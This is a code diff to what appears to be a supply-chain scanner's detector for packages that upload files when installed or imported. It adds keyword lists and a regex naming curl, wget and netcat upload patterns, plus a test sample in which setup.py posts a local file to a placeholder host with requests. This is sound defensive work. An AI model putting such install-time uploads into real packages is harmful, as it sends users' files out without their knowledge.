@@ -2,21 +2,33 @@ import { deedsOf } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
 import { codeWith, matchInCode, sight } from "./_sight.ts";
 
-const WORDS = ["curl", "wget", "invoke-restmethod", "invoke-webrequest", "uploadfile", "netcat", "nc "] as const;
+const WORDS = [
+  "files=",
+  "files =",
+  "curl",
+  "wget",
+  "invoke-restmethod",
+  "invoke-webrequest",
+  "uploadfile",
+  "netcat",
+  "nc ",
+] as const;
 /** A command whose arguments send a file, or what another command printed. */
 const SENDS =
   /\bcurl\b[^|;\n]{0,300}?[ \t](?:-F|--form)[ =]?["']?[\w[\]-]{1,40}=["']?[@<]|\bcurl\b[^|;\n]{0,300}?[ \t](?:-T|--upload-file|--data-binary|--data|-d)[ =]?["']?@|\bwget\b[^|;\n]{0,300}?--post-file|\|[ \t]{0,4}(?:curl\b[^|;\n]{0,300}?@-|nc[ \t]{1,4}[\w.-]{4,100}[ \t]{1,4}\d)|\bnc(?:at)?[ \t]{1,4}[\w.-]{4,100}[ \t]{1,4}\d{2,5}[ \t]{0,4}<|\.uploadfile\(|-infile\b/i;
+/** A request with a file in it. */
+const FILES = /[\s(,]files\s{0,4}=/;
 const SHELLS = new Set(["shell", "batch", "powershell"]);
 
-export const commandSendsFile: Detector = {
-  id: "command-sends-file",
-  title: "Installing or importing the package sends a file by a command",
+export const sendsFileUnasked: Detector = {
+  id: "sends-file-unasked",
+  title: "Installing or importing the package sends a file",
   severity: "critical",
   ecosystems: ["pypi", "npm", "nuget"],
   points: 5.6,
   class: "threat",
   group: "exfiltration",
-  why: `A command that runs at install or import uploads a file, or what another command printed, to a server. Installing needs to fetch at
+  why: `At install or import a file, or what a command printed, is uploaded to a server. Installing needs to fetch at
 most; what leaves the machine then is somebody's data.
 
 Release scripts and continuous integration upload reports; they run when a maintainer starts them.`,
@@ -27,6 +39,12 @@ Release scripts and continuous integration upload reports; they run when a maint
         const match = file.phase === "install" ? matchInCode(file, SENDS) : undefined;
         if (match !== undefined) yield sight(file, match.index, `sends a file: ${match[0].slice(0, 160)}`);
         continue;
+      }
+      for (const deed of deedsOf(file, "upload")) {
+        if (deed.phase === "call" || deed.phase === "none" || !FILES.test(deed.words)) continue;
+        yield sight(file, deed.offset, `${deed.what} sends a file to ${deed.text.slice(0, 120)}`, {
+          phase: deed.phase,
+        });
       }
       for (const deed of deedsOf(file, "start")) {
         if (deed.phase === "call" || deed.phase === "none") continue;
@@ -58,6 +76,12 @@ Release scripts and continuous integration upload reports; they run when a maint
       { ecosystem: "npm", files: { "ci.sh": "#!/bin/sh\ncurl --data-binary @coverage.txt http://example.invalid\n" } },
     ],
     evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "setup.py": "import requests\nrequests.post('http://example.invalid', files={'f': open('a', 'rb')})\n",
+        },
+      },
       {
         ecosystem: "pypi",
         files: {
